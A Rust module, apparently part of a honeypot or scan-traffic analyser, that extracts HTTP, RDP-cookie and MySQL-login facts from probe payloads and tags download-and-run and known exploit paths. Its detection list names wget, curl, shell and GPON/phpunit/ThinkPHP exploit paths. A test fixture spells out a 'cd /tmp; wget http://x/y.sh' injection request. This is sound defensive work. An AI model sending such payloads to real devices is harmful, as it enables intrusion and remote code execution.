//! Payload-derived facts: what the first bytes of a probe's payload say (HTTP request line and
//! User-Agent, RDP cookie, MySQL login, download-and-run hints, known exploit paths). Payload
//! snippets are short (≤ 256 bytes) so every parser accepts truncated input.

/// What one payload tells.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct PayloadFacts {
    /// `METHOD /path` of an HTTP request.
    pub http_url: Option<String>,
    pub http_user_agent: Option<String>,
    /// `Cookie: mstshash=…` value of an RDP connection request.
    pub rdp_cookie: Option<String>,
    /// A MySQL client handshake response (a login attempt) and its user name.
    pub mysql_login: bool,
    pub mysql_user: Option<String>,
    /// Tags such as `payload:wget`, `exploit:gpon`.
    pub tags: Vec<&'static str>,
}

const HTTP_METHODS: [&str; 9] = [
    "GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "CONNECT", "PATCH", "TRACE",
];

/// Substrings (lowercase) and the tag they give.
const HINTS: [(&str, &str); 12] = [
    ("wget ", "payload:wget"),
    ("wget+", "payload:wget"),
    ("curl ", "payload:curl"),
    ("/bin/sh", "payload:shell"),
    ("/bin/busybox", "payload:shell"),
    ("shell", "payload:shell"),
    ("/gponform/diag_form", "exploit:gpon"),
    ("eval-stdin.php", "exploit:phpunit"),
    ("invokefunction", "exploit:thinkphp"),
    ("/device.rsp", "exploit:dvr"),
    ("/cgi-bin/", "payload:cgi"),
    ("/.env", "payload:dotenv"),
];

/// Longest text kept from a payload field.
const MAX_TEXT: usize = 200;

fn text(b: &[u8]) -> String {
    let s = String::from_utf8_lossy(b);
    let s: String = s
        .chars()
        .map(|c| if c.is_control() { '?' } else { c })
        .take(MAX_TEXT)
        .collect();
    s.trim().to_string()
}

/// Parses one payload snippet sent to `dst_port`.
pub fn parse(payload: &[u8], dst_port: u16) -> PayloadFacts {
    let mut f = PayloadFacts::default();
    if payload.is_empty() {
        return f;
    }
    // HTTP request line.
    let line_end = payload
        .iter()
        .position(|&b| b == b'\r' || b == b'\n')
        .unwrap_or(payload.len());
    let line = &payload[..line_end];
    let mut parts = line.splitn(3, |&b| b == b' ');
    if let (Some(m), Some(path)) = (parts.next(), parts.next())
        && HTTP_METHODS.iter().any(|x| x.as_bytes() == m)
        && !path.is_empty()
    {
        f.http_url = Some(format!("{} {}", text(m), text(path)));
        for header in payload[line_end..].split(|&b| b == b'\n') {
            let h = header.strip_suffix(b"\r").unwrap_or(header);
            if h.len() > 11 && h[..11].eq_ignore_ascii_case(b"user-agent:") {
                f.http_user_agent = Some(text(&h[11..]));
            }
        }
    }
    // RDP: TPKT (03 00) + X.224 connection request carrying "Cookie: mstshash=NAME\r\n".
    if let Some(i) = find(payload, b"Cookie: mstshash=") {
        let rest = &payload[i + 17..];
        let end = rest
            .iter()
            .position(|&b| b == b'\r' || b == b'\n')
            .unwrap_or(rest.len());
        f.rdp_cookie = Some(text(&rest[..end]));
    }
    // MySQL HandshakeResponse41: 3-byte length, sequence 1, capabilities with
    // CLIENT_PROTOCOL_41, max packet (4), charset (1), 23 zero bytes, NUL-terminated user.
    if payload.len() >= 36 && payload[3] == 1 && (dst_port == 3306 || dst_port == 33060) {
        let caps = u32::from_le_bytes([payload[4], payload[5], payload[6], payload[7]]);
        if caps & 0x200 != 0 && payload[13..36].iter().all(|&b| b == 0) {
            f.mysql_login = true;
            let rest = &payload[36..];
            let end = rest.iter().position(|&b| b == 0).unwrap_or(rest.len());
            if end > 0 {
                f.mysql_user = Some(text(&rest[..end]));
            }
        }
    }
    let lower = payload.to_ascii_lowercase();
    for (needle, tag) in HINTS {
        if find(&lower, needle.as_bytes()).is_some() && !f.tags.contains(&tag) {
            f.tags.push(tag);
        }
    }
    f
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).position(|w| w == n)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn http_request() {
        let p = b"GET /shell?cd+/tmp;wget+http://x/y.sh HTTP/1.1\r\nHost: a\r\nUser-Agent: Hello, World\r\n\r\n";
        let f = parse(p, 80);
        assert_eq!(
            f.http_url.as_deref(),
            Some("GET /shell?cd+/tmp;wget+http://x/y.sh")
        );
        assert_eq!(f.http_user_agent.as_deref(), Some("Hello, World"));
        assert!(f.tags.contains(&"payload:wget"));
        assert!(f.tags.contains(&"payload:shell"));
        // Truncated before the headers: the request line alone.
        let f = parse(b"POST /GponForm/diag_Form?images/ HTTP/1.1", 8080);
        assert_eq!(
            f.http_url.as_deref(),
            Some("POST /GponForm/diag_Form?images/")
        );
        assert_eq!(f.http_user_agent, None);
        assert_eq!(f.tags, vec!["exploit:gpon"]);
        assert_eq!(parse(b"GETX / HTTP/1.1", 80).http_url, None);
    }

    #[test]
    fn rdp_cookie() {
        let mut p = vec![3, 0, 0, 0x2b, 0x26, 0xe0, 0, 0, 0, 0, 0];
        p.extend_from_slice(b"Cookie: mstshash=Administr\r\n\x01\x00\x08\x00");
        assert_eq!(parse(&p, 3389).rdp_cookie.as_deref(), Some("Administr"));
    }

    #[test]
    fn mysql_login() {
        let mut p = vec![0x40, 0, 0, 1];
        p.extend_from_slice(&0x000a_a685u32.to_le_bytes()); // includes CLIENT_PROTOCOL_41
        p.extend_from_slice(&[0, 0, 0, 1, 0x21]);
        p.extend_from_slice(&[0; 23]);
        p.extend_from_slice(b"root\0");
        let f = parse(&p, 3306);
        assert!(f.mysql_login);
        assert_eq!(f.mysql_user.as_deref(), Some("root"));
        assert!(!parse(&p, 80).mysql_login);
        assert!(!parse(&p[..20], 3306).mysql_login);
    }

    #[test]
    fn empty_and_binary() {
        assert_eq!(parse(b"", 80), PayloadFacts::default());
        assert_eq!(parse(&[0xff; 64], 53), PayloadFacts::default());
    }
}
